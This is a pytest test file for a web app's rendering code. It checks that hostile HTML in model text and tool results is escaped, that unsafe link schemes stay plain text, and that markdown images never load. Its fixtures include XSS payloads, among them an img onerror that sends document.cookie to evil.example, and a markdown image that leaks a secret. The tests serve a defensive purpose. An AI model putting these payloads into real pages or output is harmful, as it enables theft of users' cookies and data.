"""Model text and tool output are inert: hostile strings render as text."""
import pytest

from webapp.render import linkify_result, markdown

HOSTILE = [
    '<img src=x onerror="fetch(\'//evil.example/\'+document.cookie)">',
    '<div hx-get="/c/new" hx-trigger="load">x</div>',
    "<script>alert(1)</script>",
    '<a href="javascript:alert(1)">click</a>',
    "<iframe src=//evil.example></iframe>",
    '<svg onload="alert(1)">',
]


@pytest.mark.parametrize("text", HOSTILE)
def test_raw_html_in_model_text_is_escaped(text):
    html = str(markdown(text))
    assert "<img" not in html and "<script" not in html and "<iframe" not in html and "<svg" not in html
    assert "<div hx-get" not in html and "<a href=\"javascript" not in html
    assert "&lt;" in html


@pytest.mark.parametrize("text", HOSTILE)
def test_raw_html_in_tool_results_is_escaped(text):
    html = str(linkify_result(text))
    assert "<" not in html.replace("<a href=\"/preview", "").replace("<a href=\"http", "").replace("</a>", "")


def test_markdown_images_never_load():
    html = str(markdown("![leak](https://evil.example/p.png?secret=abc) ![x](data:image/png;base64,AAAA)"))
    assert "<img" not in html


@pytest.mark.parametrize("link", ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<b>x</b>",
                                  "vbscript:msgbox", "file:///etc/passwd"])
def test_unsafe_link_schemes_stay_text(link):
    html = str(markdown(f"[click]({link})"))
    assert "<a " not in html


def test_links_open_safely_and_show_where_they_go():
    html = str(markdown("[your bank](https://evil.example/login)"))
    assert 'rel="noopener noreferrer nofollow"' in html and 'target="_blank"' in html
    assert '<span class="link-target">(https://evil.example/login)</span>' in html


def test_markdown_still_formats():
    html = str(markdown("# Title\n\n- one\n- **two**\n\n`code` and a [link](https://example.org)"))
    assert "<h1>Title</h1>" in html and "<strong>two</strong>" in html and "<code>code</code>" in html


def test_tool_result_paths_and_urls_become_links_and_nothing_else():
    html = str(linkify_result('found /home/u/Documents/tax_2026.pdf and https://example.org/a?b=1 "<b>"'))
    assert '<a href="/preview?path=%2Fhome%2Fu%2FDocuments%2Ftax_2026.pdf" class="path-link">' in html
    assert '<a href="https://example.org/a?b=1" rel="noopener noreferrer nofollow" target="_blank">' in html
    assert "&lt;b&gt;" in html


def test_hit_snippets_are_escaped_with_query_words_marked():
    from webapp.render import highlight

    html = str(highlight("สัญญาเช่า <b>บ้าน</b> contract 2026", "สัญญา Contract"))
    assert "<mark>สัญญา</mark>" in html and "<mark>contract</mark>" in html and "&lt;b&gt;" in html


def test_preview_links_open_at_the_hit_location():
    from webapp.render import preview_href

    assert preview_href("/d/a b.pdf", "page 3") == "/preview?path=%2Fd%2Fa+b.pdf&start=3&end=3"
    assert preview_href("/d/n.md", "lines 10-40").endswith("start=10&end=40")
    assert preview_href("/d/n.md", "") == "/preview?path=%2Fd%2Fn.md"


def test_markdown_tables_render_with_cells_still_escaped():
    html = str(markdown("| ไฟล์ | ขนาด |\n|---|---|\n| <img src=x onerror=alert(1)> | **8 kB** |"))
    assert "<table>" in html and "<th>ไฟล์</th>" in html and "<strong>8 kB</strong>" in html
    assert "<img" not in html and "&lt;img" in html


def test_fenced_code_is_coloured_with_classes_and_stays_inert():
    html = str(markdown('```python\nprint("<script>alert(1)</script>")\n```'))
    assert '<pre class="highlight"><code class="language-python">' in html
    assert '<span class="nb">print</span>' in html and "style=" not in html
    assert "<script" not in html and "&lt;script&gt;" in html


@pytest.mark.parametrize("info", ['"><script>alert(1)</script>', "nosuchlanguage", ""])
def test_a_code_block_in_an_unknown_or_hostile_language_is_plain_escaped_text(info):
    html = str(markdown(f"```{info}\n<b>x</b>\n```"))
    assert "<script" not in html and "<b>" not in html and "&lt;b&gt;x&lt;/b&gt;" in html
    assert 'class="highlight"' not in html


def test_code_colours_are_a_stylesheet_for_both_themes():
    from webapp.render import code_stylesheet

    css = code_stylesheet()
    assert ".highlight .k {" in css and ':root[data-theme="dark"] .highlight .k {' in css
    assert "@media (prefers-color-scheme: dark)" in css
    assert all(line.startswith((".highlight", ":root", "@media", "}")) for line in css.splitlines() if line)
